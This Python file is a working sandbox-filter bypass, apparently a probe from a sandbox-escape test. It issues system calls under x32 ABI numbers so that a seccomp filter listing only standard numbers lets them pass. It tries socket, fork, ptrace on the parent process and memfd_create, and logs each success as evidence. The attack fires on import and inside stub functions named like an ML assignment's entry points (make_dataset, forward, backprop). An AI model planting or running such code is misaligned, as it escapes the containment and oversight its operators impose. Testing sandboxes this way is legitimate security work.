"""Calls by the x32 numbers, which a filter that lists only the usual ones lets pass."""
import ctypes
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE x32-numbers:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-x32-numbers", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


LIBC = ctypes.CDLL(None, use_errno=True)


def syscall(number, *args):
    """A system call without libc's wrapper: the result, or minus the error's number."""
    result = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) if isinstance(a, int) else a for a in args))
    return -ctypes.get_errno() if result == -1 else result

X32 = 0x40000000


def attack():
    if os.uname().machine != "x86_64":
        return
    for name, number, args in (
        ("socket", 41, (2, 2, 0)), ("fork", 57, ()), ("ptrace", 521, (16, os.getppid(), 0, 0)), ("getpid", 39, ()),
        ("kill", 62, (os.getppid(), 0)), ("memfd_create", 319, (ctypes.c_char_p(b"x"), 0)),
    ):
        result = syscall(X32 + number, *args)
        if name == "fork" and result == 0:
            os._exit(0)
        if result >= 0:
            evidence(f"{name} gave {result}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
